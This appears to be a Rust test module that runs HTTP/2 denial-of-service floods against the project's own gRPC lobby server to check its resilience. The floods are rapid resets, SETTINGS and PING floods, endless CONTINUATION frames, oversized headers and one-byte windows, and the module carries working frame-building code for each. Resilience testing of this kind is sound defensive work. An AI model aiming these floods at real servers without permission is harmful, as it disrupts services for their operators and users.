//! HTTP/2 that no honest client speaks: resets, settings and pings in floods, headers that do not end, tiny windows.

use std::io;
use std::time::Duration;

use parley_proto::v1;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout_at};

use super::attack_run::Aim;
use super::wire::{END_HEADERS, END_STREAM, Frames, LET_GO, Tally, framed, kind};

/// How many connections each of these comes over at a time.
const CONNECTIONS: usize = 8;
/// How many frames are sent between two looks at what the server says.
const BATCH: usize = 500;
/// How large a frame of headers is.
const HEADERS: usize = 16_000;
/// The setting of HTTP/2 for the window that streams begin with.
const INITIAL_WINDOW: u16 = 4;

/// Sends batches over connections, one after the other, until it is time. What the server says is thrown away.
async fn flood(aim: Aim, settings: &'static [(u16, u32)], batch: fn(&mut Frames, u32)) -> Tally {
    let mut flooding = JoinSet::new();
    for _ in 0..aim.of(CONNECTIONS) {
        flooding.spawn(async move {
            let mut tally = Tally::default();
            while !aim.is_over() {
                let ended = timeout_at(aim.until, one_flood(aim, settings, batch, &mut tally)).await;
                if let Ok(Err(_)) = ended {
                    tally.count(LET_GO);
                }
                sleep(Duration::from_millis(5)).await;
            }
            tally
        });
    }
    Tally::sum(flooding).await
}

async fn one_flood(
    aim: Aim,
    settings: &[(u16, u32)],
    batch: fn(&mut Frames, u32),
    tally: &mut Tally,
) -> io::Result<()> {
    let mut frames = Frames::open(aim.server, aim.source, settings).await?;
    // A server that lets somebody in says its settings. Only then is there anybody to flood.
    frames.read().await?;
    tally.count("connections");
    for number in 0_u32.. {
        batch(&mut frames, number);
        frames.flush().await?;
        tally.count("batches");
        frames.discard()?;
        sleep(Duration::from_millis(1)).await;
    }
    Ok(())
}

/// Calls that are taken back as soon as they are made (CVE-2023-44487).
pub async fn resets(aim: Aim) -> Tally {
    flood(aim, &[], |frames, number| {
        let first = number.wrapping_mul(BATCH as u32);
        for stream in (first..first + BATCH as u32).map(|stream| 2 * stream + 1) {
            frames.push_headers(stream, "Lobby/ListMatches");
            frames.push(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        }
    })
    .await
}

/// Settings, each of which wants to be acknowledged (CVE-2019-9515).
pub async fn settings(aim: Aim) -> Tally {
    flood(aim, &[], |frames, _| (0..BATCH).for_each(|_| frames.push(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))).await
}

/// Pings, each of which wants to be answered (CVE-2019-9512).
pub async fn pings(aim: Aim) -> Tally {
    flood(aim, &[], |frames, _| (0..BATCH).for_each(|_| frames.push(kind::PING, 0, 0, &[1; 8]))).await
}

/// A block of headers that goes on and on (CVE-2024-27316).
pub async fn continuations(aim: Aim) -> Tally {
    flood(aim, &[], |frames, number| {
        if number == 0 {
            let block = frames.block("Lobby/ListMatches");
            frames.push(kind::HEADERS, END_STREAM, 1, &block);
        }
        let mut more = vec![0, 1, b'x', 0x7f];
        // The value is as long as what is left of the frame: the length above 127 in seven bits a byte.
        let rest = HEADERS - 6 - 127;
        more.extend([(rest & 0x7f) as u8 | 0x80, (rest >> 7) as u8]);
        more.resize(HEADERS, b'v');
        frames.push(kind::CONTINUATION, 0, 1, &more);
    })
    .await
}

/// Whole calls with more headers than anybody needs.
pub async fn large_headers(aim: Aim) -> Tally {
    flood(aim, &[], |frames, number| {
        let mut block = frames.block("Lobby/ListMatches");
        for header in 0..120_u8 {
            block.extend([0, 2, b'x', b'a' + header % 26, 120]);
            block.extend([b'v'; 120]);
        }
        frames.push(kind::HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &block);
    })
    .await
}

/// Answers that are let in one byte at a time: each byte costs the server a frame.
pub async fn tiny_windows(aim: Aim) -> Tally {
    flood(aim, &[(INITIAL_WINDOW, 0)], |frames, number| {
        const STREAMS: u32 = 64;
        if number == 0 {
            let list = framed(&v1::ListMatchesRequest { page_size: 100, ..v1::ListMatchesRequest::default() });
            for stream in (0..STREAMS).map(|stream| 2 * stream + 1) {
                frames.push_headers(stream, "Lobby/ListMatches");
                frames.push(kind::DATA, END_STREAM, stream, &list);
            }
        }
        for stream in (0..STREAMS).map(|stream| 2 * stream + 1) {
            frames.push(kind::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
        }
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Attack;
    use crate::attacks::attack_run::AttackRun;

    /// For how many seconds each flood lasts.
    const SECONDS: u64 = 4;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    #[ignore = "takes 30 seconds; .ci/run runs it"]
    async fn frames_in_floods_stay_within_the_budget() {
        let mut attack_run = AttackRun::begin(&[]).await;
        let mut all = Tally::default();
        for name in ["resets", "settings", "pings", "continuations", "large-headers", "tiny-windows"] {
            all.add(attack_run.stand(Attack::named(name), SECONDS).await);
        }
        attack_run.end("floods of frames", &all);
    }
}
